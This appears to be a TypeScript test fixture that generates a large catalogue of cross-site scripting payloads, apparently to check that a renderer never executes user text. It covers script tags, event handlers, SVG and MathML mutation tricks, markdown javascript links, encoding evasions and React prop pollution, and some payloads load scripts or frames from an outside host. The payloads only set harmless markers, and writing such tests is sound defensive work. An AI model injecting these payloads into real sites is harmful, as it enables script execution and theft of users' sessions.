/** Where a harmful text says that it ran, and whom it would tell. */
const ran = (index: number) => `window.__xss=${index}`

/** In two pieces, because the whole name is to stand nowhere in our code. */
const htmlProp = ['dangerouslySet', 'InnerHTML'].join('')

type Make = (does: string, away: string) => string

const scripts: Make[] = [
  (does) => `<script>${does}</script>`,
  (does) => `</script><script>${does}</script>`,
  (does) => `"><script>${does}</script>`,
  (does) => `'><script>${does}</script>`,
  (does) => `<ScRiPt>${does}</sCrIpT>`,
  (does) => `<script\n>${does}</script\n>`,
  (does) => `<scr<script>ipt>${does}</scr</script>ipt>`,
  (_, away) => `<script src="${away}/a.js"></script>`,
  (_, away) => `<script src=data:text/javascript,parent.__xss=1></script><script src="${away}/b.js" async></script>`,
  (does) => `<script type="module">${does}</script>`,
  (does) => `</title><script>${does}</script>`,
  (does) => `</textarea><script>${does}</script>`,
  (does) => `</style><script>${does}</script>`,
  (does) => `--><script>${does}</script><!--`,
  (does) => `]]><script>${does}</script>`,
  (does) => `self.__next_f.push([1,"</script><script>${does}</script>"])`,
]

const handlers: Make[] = [
  (does) => `<img src=x onerror=${does}>`,
  (does) => `<img src="x" onerror="${does}">`,
  (does) => `<img/src='x'/onerror=${does}>`,
  (does) => `<IMG """><SCRIPT>${does}</SCRIPT>">`,
  (does) => `<body onload=${does}>`,
  (does) => `<input autofocus onfocus=${does}>`,
  (does) => `<details open ontoggle=${does}>x</details>`,
  (does) => `<video><source onerror=${does}></video>`,
  (does) => `<audio src=x onerror=${does}>`,
  (does) => `<marquee onstart=${does}>x</marquee>`,
  (does) => `<div onpointerenter=${does} onmouseover=${does}>x</div>`,
  (does) => `<a href=# onclick=${does} autofocus onfocus=${does}>x</a>`,
  (does) => `<style onload=${does}></style>`,
  (does) => `<div style="animation:x" onanimationstart=${does}>x</div>`,
  (does) => `" onmouseover="${does}" x="`,
  (does) => `' autofocus onfocus='${does}' x='`,
  (does) =>
    `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${does}//>`,
]

const drawings: Make[] = [
  (does) => `<svg onload=${does}>`,
  (does) => `<svg><script>${does}</script></svg>`,
  (does) => `<svg><a xlink:href="javascript:${does}"><text x="9" y="9">x</text></a></svg>`,
  (does) => `<svg><animate onbegin=${does} attributeName=x dur=1s>`,
  (does) => `<svg><set attributeName="href" to="javascript:${does}"/></svg>`,
  (_, away) => `<svg><use href="${away}/x.svg#x"/><image href="${away}/x.png"/></svg>`,
  (does) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${does.slice(7)}</script>"></iframe></foreignObject></svg>`,
  (does) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${does}&gt;">`,
  (does) => `<svg></p><style><a id="</style><img src=1 onerror=${does}>">`,
  (does) => `<noscript><p title="</noscript><img src=x onerror=${does}>">`,
  (does) => `<template><img src=x onerror=${does}></template>`,
  (does) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${does}>`,
]

const frames: Make[] = [
  (does) => `<iframe srcdoc="&lt;script&gt;parent.${does.slice(7)}&lt;/script&gt;"></iframe>`,
  (does) => `<iframe src="javascript:parent.${does.slice(7)}"></iframe>`,
  (_, away) => `<iframe src="${away}/frame"></iframe>`,
  (does) => `<object data="data:text/html,<script>parent.${does.slice(7)}</script>"></object>`,
  (does) => `<embed src="javascript:${does}">`,
  (_, away) => `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
  (_, away) => `<base href="${away}/">`,
  (_, away) => `<form action="${away}/form"><button autofocus>Sign in</button></form>`,
  (does) => `<button form=f formaction="javascript:${does}">x</button>`,
  (_, away) => `<link rel=stylesheet href="${away}/a.css"><link rel=preload as=script href="${away}/a.js">`,
]

const markdown: Make[] = [
  (does) => `[click](javascript:${does})`,
  (does) => `[click](JaVaScRiPt:${does})`,
  (does) => `[click](javascript&colon;${does})`,
  (does) => `[click](java\u0000script:${does})`.replace('\u0000', '\t'),
  (does) => `[click](vbscript:${does})`,
  (does) => `[click](data:text/html;base64,${Buffer.from(`<script>${does}</script>`).toString('base64')})`,
  (does) => `<javascript:${does}>`,
  (does) => `[click]: javascript:${does}\n\n[click]`,
  (_, away) => `![x](${away}/pixel.png)`,
  (does) => `![x](x"onerror="${does})`,
  (does) => `[x](https://example.com/"onmouseover="${does})`,
  (does) => `[<img src=x onerror=${does}>](https://example.com/)`,
  (does) => `\`\`\`html\n<script>${does}</script>\n\`\`\`\n<img src=x onerror=${does}>`,
  (does) => `| a |\n| --- |\n| <img src=x onerror=${does}> |`,
  (does) => `> <svg onload=${does}>\n\n- <svg onload=${does}>\n# <svg onload=${does}>`,
]

const others: Make[] = [
  (does) => `{{ constructor.constructor('${does}')() }}`,
  (does) => `\${${does}} #{${does}} <%= ${does} %> {{=${does}}} [[${does}]]`,
  (does) => `\uFF1Cscript\uFF1E${does}\uFF1C/script\uFF1E`,
  (does) => `\u202E<script>${does}</script>\u202C\u200B\uFEFF`,
  (does) => `%3Cscript%3E${does}%3C/script%3E`,
  (does) => `&lt;script&gt;${does}&lt;/script&gt;&#60;script&#62;${does}&#60;/script&#62;`,
  (does) => `\\u003cscript\\u003e${does}\\u003c/script\\u003e`,
  (does) => `+ADw-script+AD4-${does}+ADw-/script+AD4-`,
  (_, away) => `<div style="background:url(${away}/bg.png);position:fixed;inset:0">x</div>`,
  (_, away) => `</style><style>@import "${away}/i.css"; * { background: url(${away}/all.png) }</style>`,
  (does) => `<div style="width:expression(${does});behavior:url(#x)">x</div>`,
  (does) => `{"__proto__":{"${htmlProp}":{"__html":"<img src=x onerror=${does}>"}}}`,
  (does) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${does}"}}`,
  (does) => `javascript:${does}`,
  (does) => `data:text/html,<script>${does}</script>`,
  (does) => `${'<b>'.repeat(400)}<img src=x onerror=${does}>`,
]

/** A text that would do harm wherever it was taken for more than text; `mark` is what a person must be able to read of it. */
export type Payload = { mark: string; text: string }

/** `away` is somebody else's address. Each tells by another number that it ran. */
export const payloads = (away: string): Payload[] =>
  [...scripts, ...handlers, ...drawings, ...frames, ...markdown, ...others].map((make, index) => ({
    mark: `mark${index}.`,
    text: make(ran(index + 1), away),
  }))

/** As a name: in one line, the mark before it. */
export const named = ({ mark, text }: Payload): string => `${mark} ${text.replaceAll('\n', ' ')}`.slice(0, 200)

/** As what somebody writes: the harmful part begins its own line. */
export const written = ({ mark, text }: Payload): string => `${mark}\n\n${text}`
